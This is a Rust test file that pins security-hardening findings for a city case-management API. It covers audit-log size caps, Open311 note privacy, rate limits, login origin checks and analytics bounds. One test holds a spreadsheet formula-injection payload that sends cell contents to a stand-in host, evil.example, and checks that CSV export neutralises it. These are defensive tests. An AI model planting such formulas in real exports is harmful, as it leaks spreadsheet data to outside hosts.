//! The second hardening round: each finding of the outside probe, pinned.

use axum::http::StatusCode;
use citygrid_core::account::Role;
use serde_json::json;

use crate::support::{at, demo_app_with, demo_with_year, exchange, exchange_text};

/// A login with a username of three megabytes is refused, and its audit entry keeps only the
/// first characters of what an anonymous caller sent.
#[tokio::test]
async fn anonymous_requests_cannot_grow_the_audit_log_without_bound() {
    let demo = demo_app_with(|s| s).await;
    let huge = "x".repeat(3 * 1024 * 1024);
    let (status, _, _) = exchange(
        &demo.router,
        "POST",
        &format!("/api/v1/login?{}", "q".repeat(5000)),
        &[],
        Some(json!({ "username": huge, "password": "guess" }).to_string()),
    )
    .await;
    assert!(status.is_client_error(), "{status}");
    let log = demo
        .state
        .district
        .store()
        .audit_after(citygrid::store::Page {
            after: 0,
            limit: 10,
        })
        .await
        .unwrap();
    let entry = log.last().unwrap();
    assert_eq!(entry.actor, "anonymous");
    let detail = entry.detail.as_deref().unwrap_or("");
    assert!(detail.chars().count() <= 201, "{}", detail.len());
    assert!(entry.action.chars().count() <= 201);
}

/// A public report's description that a spreadsheet would run is exported as text.
#[tokio::test]
async fn csv_exports_neutralise_spreadsheet_formulas() {
    let demo = demo_app_with(|s| s).await;
    let p = at(10.0, 10.0);
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")";
    let (status, _, created) = demo
        .send_as(
            Role::Dispatcher,
            "POST",
            "/api/v1/cases",
            Some(
                json!({ "category": "0501", "source": "public", "lon": p.lon, "lat": p.lat,
                    "description": formula })
                .to_string(),
            ),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{created}");
    let auth = format!("Bearer {}", demo.token(Role::Dispatcher));
    let (status, _, csv) = exchange_text(
        &demo.router,
        "GET",
        "/api/v1/cases?format=csv",
        "application/json",
        &[("authorization", &auth)],
        None,
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let column = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "description")
        .unwrap();
    let cells: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[column].to_owned())
        .filter(|d| d.contains("HYPERLINK"))
        .collect();
    assert_eq!(cells, [format!("'{formula}")]);
}

/// What an Open311 client reads of a case.
async fn open311_json(router: &axum::Router, uri: &str) -> (StatusCode, String, String) {
    let (status, headers, text) =
        exchange_text(router, "GET", uri, "application/json", &[], None).await;
    (status, crate::support::content_type(&headers), text)
}

/// A dispatcher's note is internal unless they publish it; Open311 shows only public notes.
#[tokio::test]
async fn internal_notes_never_reach_the_public() {
    let demo = demo_app_with(|s| s).await;
    let p = at(-120.0, 80.0);
    let (_, _, created) = demo
        .send_as(
            Role::Dispatcher,
            "POST",
            "/api/v1/cases",
            Some(
                json!({ "category": "0501", "source": "hotline", "lon": p.lon, "lat": p.lat })
                    .to_string(),
            ),
        )
        .await;
    let id = created["case"]["id"].as_i64().unwrap();
    let act = |body: serde_json::Value| {
        let demo = &demo;
        async move {
            demo.send_as(
                Role::Dispatcher,
                "POST",
                &format!("/api/v1/cases/{id}/transitions"),
                Some(body.to_string()),
            )
            .await
        }
    };
    let (status, _, _) = act(json!({ "action": "comment",
        "note": "internal: called back Alice at 13700001111" }))
    .await;
    assert_eq!(status, StatusCode::OK);
    let (status, _, text) =
        open311_json(&demo.router, &format!("/open311/v2/requests/{id}.json")).await;
    assert_eq!(status, StatusCode::OK, "{text}");
    assert!(!text.contains("Alice") && !text.contains("137"), "{text}");
    let (status, _, detail) = act(
        json!({ "action": "comment", "note": "已安排执法队员前往处理",
        "visibility": "public" }),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{detail}");
    let (_, _, text) = open311_json(&demo.router, &format!("/open311/v2/requests/{id}.json")).await;
    let requests: serde_json::Value = serde_json::from_str(&text).unwrap();
    assert_eq!(requests[0]["status_notes"], "已安排执法队员前往处理");
    // Staff still read both, each with its visibility.
    let (_, _, case) = demo
        .send_as(
            Role::Dispatcher,
            "GET",
            &format!("/api/v1/cases/{id}"),
            None,
        )
        .await;
    let notes: Vec<(String, String)> = case["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["note"].is_string())
        .map(|e| {
            (
                e["note"].as_str().unwrap().to_owned(),
                e["visibility"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(
        notes,
        [
            (
                "internal: called back Alice at 13700001111".to_owned(),
                "internal".to_owned()
            ),
            ("已安排执法队员前往处理".to_owned(), "public".to_owned()),
        ]
    );
}

/// Open311 reads are rate-limited per address, a list of ids is capped and de-duplicated, and
/// errors come in the format the path asks for, whoever produced them.
#[tokio::test]
async fn open311_reads_are_bounded_and_errors_keep_the_format() {
    let demo = demo_app_with(|s| s).await;
    let ids = vec!["1"; 20_000].join(",");
    let (status, content_type, text) = open311_json(
        &demo.router,
        &format!("/open311/v2/requests.json?service_request_id={ids}"),
    )
    .await;
    // 20,000 copies of one id are one id.
    assert_eq!(status, StatusCode::OK, "{text}");
    assert!(content_type.starts_with("application/json"));
    assert!(
        serde_json::from_str::<Vec<serde_json::Value>>(&text)
            .unwrap()
            .len()
            <= 1
    );
    let many = (1..=101)
        .map(|i| i.to_string())
        .collect::<Vec<_>>()
        .join(",");
    let (status, content_type, xml) = open311_json(
        &demo.router,
        &format!("/open311/v2/requests.xml?service_request_id={many}"),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(content_type.starts_with("text/xml"), "{content_type}");
    assert!(xml.contains("<errors>") && xml.contains("100"), "{xml}");
    // A query string that cannot be read is an Open311 error too, not plain text.
    let (status, content_type, text) =
        open311_json(&demo.router, "/open311/v2/requests.json?page=%FF%FE").await;
    assert!(status.is_client_error());
    assert!(
        content_type.starts_with("application/json"),
        "{content_type}: {text}"
    );
    let mut limited = None;
    for _ in 0..200 {
        let (status, headers, text) = exchange_text(
            &demo.router,
            "GET",
            "/open311/v2/services.xml",
            "application/json",
            &[],
            None,
        )
        .await;
        if status == StatusCode::TOO_MANY_REQUESTS {
            limited = Some((headers, text));
            break;
        }
    }
    let (headers, text) = limited.expect("reads were never limited");
    assert!(headers.contains_key("retry-after"));
    assert!(crate::support::content_type(&headers).starts_with("text/xml"));
    assert!(text.contains("<code>429</code>"), "{text}");
}

/// A public report of a point outside the district is refused; inside, it is taken.
#[tokio::test]
async fn public_reports_outside_the_district_are_refused() {
    let router = crate::support::demo_router_with(|s| {
        s.with_open311(citygrid::http::open311::Open311Config {
            api_keys: vec!["k".into()],
            jurisdiction_id: "x".into(),
        })
    })
    .await;
    let post = |lat: f64, lon: f64| {
        let router = router.clone();
        async move {
            exchange_text(
                &router,
                "POST",
                "/open311/v2/requests.json",
                "application/x-www-form-urlencoded",
                &[],
                Some(format!(
                    "api_key=k&service_code=0501&lat={lat}&long={lon}&description=x"
                )),
            )
            .await
        }
    };
    let (status, _, text) = post(0.0, 0.0).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{text}");
    assert!(text.contains("outside the district"), "{text}");
    let p = at(0.0, 0.0);
    let (status, _, text) = post(p.lat, p.lon).await;
    assert_eq!(status, StatusCode::CREATED, "{text}");
}

/// An officer's report hints at duplicates only among cases the officer may read.
#[tokio::test]
async fn duplicate_hints_show_only_cases_within_reach() {
    let demo = demo_app_with(|s| s).await;
    let p = at(300.0, -200.0);
    let body =
        json!({ "category": "0501", "source": "patrol", "lon": p.lon, "lat": p.lat }).to_string();
    let (status, _, first) = demo
        .send_as(
            Role::Dispatcher,
            "POST",
            "/api/v1/cases",
            Some(body.clone()),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED);
    let (_, _, by_dispatcher) = demo
        .send_as(
            Role::Dispatcher,
            "POST",
            "/api/v1/cases",
            Some(body.clone()),
        )
        .await;
    assert!(
        by_dispatcher["possible_duplicates"]
            .as_array()
            .unwrap()
            .iter()
            .any(|d| d["id"] == first["case"]["id"]),
        "{by_dispatcher}"
    );
    let (status, _, by_officer) = demo
        .send_as(Role::Officer, "POST", "/api/v1/cases", Some(body))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{by_officer}");
    assert_eq!(by_officer["possible_duplicates"], json!([]), "{by_officer}");
    let (status, _, _) = demo
        .send_as(
            Role::Officer,
            "GET",
            &format!("/api/v1/cases/{}", first["case"]["id"]),
            None,
        )
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

/// Logging in takes JSON only, from this server's own pages or from clients that are not
/// browsers.
#[tokio::test]
async fn login_only_as_json_from_our_own_origin() {
    let demo = demo_app_with(|s| s).await;
    let body = Some(json!({ "username": "nobody", "password": "guess-guess-guess" }).to_string());
    let (status, _, text) = exchange_text(
        &demo.router,
        "POST",
        "/api/v1/login",
        "text/plain",
        &[],
        body.clone(),
    )
    .await;
    assert_eq!(status, StatusCode::UNSUPPORTED_MEDIA_TYPE, "{text}");
    let (status, _, problem) = exchange(
        &demo.router,
        "POST",
        "/api/v1/login",
        &[
            ("origin", "https://evil.example"),
            ("host", "citygrid.example"),
        ],
        body.clone(),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{problem}");
    let (status, _, _) = exchange(
        &demo.router,
        "POST",
        "/api/v1/login",
        &[("sec-fetch-site", "cross-site")],
        body.clone(),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    // The same origin, and a client that is not a browser, get as far as the password check.
    let (status, _, _) = exchange(
        &demo.router,
        "POST",
        "/api/v1/login",
        &[
            ("origin", "https://citygrid.example"),
            ("host", "citygrid.example"),
            ("sec-fetch-site", "same-origin"),
        ],
        body.clone(),
    )
    .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let (status, _, _) = exchange(&demo.router, "POST", "/api/v1/login", &[], body).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
}

/// Small rules of the protocol: `Bearer` in any case, no caching of the API's answers, HSTS
/// when asked, positions with a physical accuracy.
#[tokio::test]
async fn bearer_caching_hsts_and_accuracy() {
    let demo = demo_app_with(|s| s.with_hsts(true)).await;
    let token = demo.token(Role::Officer).to_owned();
    for scheme in ["Bearer", "bearer", "BEARER"] {
        let auth = format!("{scheme} {token}");
        let (status, headers, _) = exchange(
            &demo.router,
            "GET",
            "/api/v1/me",
            &[("authorization", &auth)],
            None,
        )
        .await;
        assert_eq!(status, StatusCode::OK, "{scheme}");
        assert_eq!(headers["cache-control"], "no-store");
        assert_eq!(headers["strict-transport-security"], citygrid::http::HSTS);
    }
    let fix = |accuracy: f64| {
        Some(
            json!({ "lon": at(0.0, 0.0).lon, "lat": at(0.0, 0.0).lat, "accuracy_m": accuracy })
                .to_string(),
        )
    };
    let uri = format!("/api/v1/officers/{}/positions", crate::support::OFFICER);
    let (status, _, problem) = demo.send_as(Role::Officer, "POST", &uri, fix(1e308)).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(problem["field"], "fixes[0].accuracy_m");
    let (status, _, _) = demo.send_as(Role::Officer, "POST", &uri, fix(12.0)).await;
    assert!(status.is_success(), "{status}");
    let plain = demo_app_with(|s| s).await;
    let (_, headers, _) = exchange(&plain.router, "GET", "/api/v1/health", &[], None).await;
    assert!(!headers.contains_key("strict-transport-security"));
}

/// The statistics a planner may ask for are bounded before any work starts: each refusal
/// names the parameter and the limit.
#[tokio::test]
async fn analytics_ranges_and_sizes_are_bounded() {
    let demo = demo_with_year(|s| s).await;
    let get = |uri: &'static str| {
        let demo = &demo;
        async move { demo.send_as(Role::Planner, "GET", uri, None).await }
    };
    for uri in [
        "/api/v1/analytics/emerging?from=1727-01-01&to=2027-01-01",
        "/api/v1/analytics/counts?slice=quarter&from=0001-01-01&to=9999-12-31",
        "/api/v1/analytics/recurring?n=1&recent=60&limit=500&from=1900-01-01&to=2100-01-01",
    ] {
        let (status, _, problem) = get(uri).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{uri}: {problem}");
        assert_eq!(problem["field"], "from", "{uri}");
        assert!(
            problem["detail"].as_str().unwrap().contains("at most"),
            "{problem}"
        );
    }
    // Tiny cells under wide kernels: the cells are made coarser, not the server slower.
    let (status, _, answer) = get("/api/v1/analytics/heat?cell_m=5&radius_m=5000").await;
    assert_eq!(status, StatusCode::OK);
    let cell = answer["heat"]["cell_m"].as_f64().unwrap();
    let cases = demo.state.statistics.warm().await.unwrap() as f64;
    let touched = std::f64::consts::PI * (5000.0 / cell).powi(2) * cases;
    assert!(
        cell > 5.0 && touched <= citygrid::statistics::MAX_KERNEL_WORK * 1.01,
        "{cell} {touched}"
    );
    // What stays inside the bounds is answered as before.
    let (status, _, _) = get("/api/v1/analytics/emerging?from=2026-01-01&to=2026-07-01").await;
    assert_eq!(status, StatusCode::OK);
}

/// Heavy work runs beside the request threads: while four heavy jobs hold the analytics lane
/// (two running, two waiting), the server answers health and ordinary reads, refuses a fifth
/// heavy request at once with 503 and Retry-After, and serves it again once the lane frees.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn heavy_work_cannot_starve_the_server() {
    use citygrid::heavy::{HeavyWork, Kind, LaneLimits};
    let heavy = HeavyWork::new(|_| LaneLimits {
        running: 2,
        waiting: 2,
        budget: std::time::Duration::from_secs(60),
    });
    let demo = demo_app_with(|s| s.with_heavy(heavy.clone())).await;
    let mut release = Vec::new();
    let mut jobs = Vec::new();
    for _ in 0..4 {
        let (tx, rx) = std::sync::mpsc::channel::<()>();
        release.push(tx);
        let heavy = heavy.clone();
        jobs.push(tokio::spawn(async move {
            heavy.run(Kind::Analytics, move |_| rx.recv()).await
        }));
    }
    // Let the four take their places.
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    let (status, _, _) = exchange(&demo.router, "GET", "/api/v1/health", &[], None).await;
    assert_eq!(
        status,
        StatusCode::OK,
        "health is answered while heavy work runs"
    );
    let (status, _, _) = demo
        .send_as(Role::Planner, "GET", "/api/v1/cases?limit=5", None)
        .await;
    assert_eq!(status, StatusCode::OK);
    let (status, headers, problem) = demo
        .send_as(Role::Planner, "GET", "/api/v1/analytics/hotspots", None)
        .await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE, "{problem}");
    assert!(headers.contains_key("retry-after"));
    assert!(
        problem["detail"].as_str().unwrap().contains("busy"),
        "{problem}"
    );
    for tx in release {
        tx.send(()).unwrap();
    }
    for job in jobs {
        assert!(job.await.unwrap().is_ok());
    }
    let (status, _, _) = demo
        .send_as(Role::Planner, "GET", "/api/v1/analytics/hotspots", None)
        .await;
    assert_eq!(status, StatusCode::OK);
}

/// Work that runs over its time budget is stopped and says so.
#[tokio::test]
async fn heavy_work_stops_at_its_budget() {
    use citygrid::heavy::{HeavyWork, LaneLimits};
    let heavy = HeavyWork::new(|_| LaneLimits {
        running: 1,
        waiting: 1,
        budget: std::time::Duration::from_millis(1),
    });
    let demo = demo_with_year(|s| s.with_heavy(heavy)).await;
    let (status, _, problem) = demo
        .send_as(Role::Planner, "GET", "/api/v1/analytics/emerging", None)
        .await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE, "{problem}");
    assert!(
        problem["detail"].as_str().unwrap().contains("budget"),
        "{problem}"
    );
}
